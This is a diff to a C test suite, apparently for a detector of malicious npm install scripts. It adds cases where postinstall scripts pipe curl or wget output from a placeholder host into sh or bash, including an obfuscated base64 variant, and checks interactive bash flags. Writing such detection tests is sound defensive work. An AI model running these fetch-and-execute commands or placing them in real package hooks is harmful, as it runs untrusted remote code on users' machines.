@@ -250,6 +250,13 @@ static void test_download_and_execute(void **state)
 	       RULE_PM_CHILD, SEV_CRITICAL, "download and execute");
 	expect(npm_script(npm, "echo Y3VybA== | base64 -d | sh", "postinstall"), RULE_PM_CHILD,
 	       SEV_CRITICAL, "download and execute");
+	/* the pipe need not end the script */
+	expect(npm_script(npm, "curl -s http://x/y | sh; echo ok > marker", "postinstall"),
+	       RULE_PM_CHILD, SEV_CRITICAL, "download and execute");
+	expect(npm_script(npm, "wget -qO- http://x/y|bash && touch done", "postinstall"),
+	       RULE_PM_CHILD, SEV_CRITICAL, "download and execute");
+	expect(npm_script(npm, "(curl -s http://x/y | sh)", "postinstall"), RULE_PM_CHILD,
+	       SEV_CRITICAL, "download and execute");
 	/* the second half of curl | sh: a shell reading stdin */
 	expect(proc(sh, &npm_sess, "/usr/bin/dash", "sh"), RULE_PM_CHILD, SEV_HIGH,
 	       "shell reading commands from stdin");
@@ -293,6 +300,7 @@ static void test_shell_modes(void **state)
 		{ "bash -i", SEV_CRITICAL },
 		{ "bash -li", SEV_CRITICAL },
 		{ "bash -ic true", SEV_CRITICAL },
+		{ "bash -ci true", SEV_CRITICAL },
 		{ "sh -c true", SEV_NONE },
 		{ "sh -ec true", SEV_NONE },
 		{ "sh -c true -i", SEV_NONE },
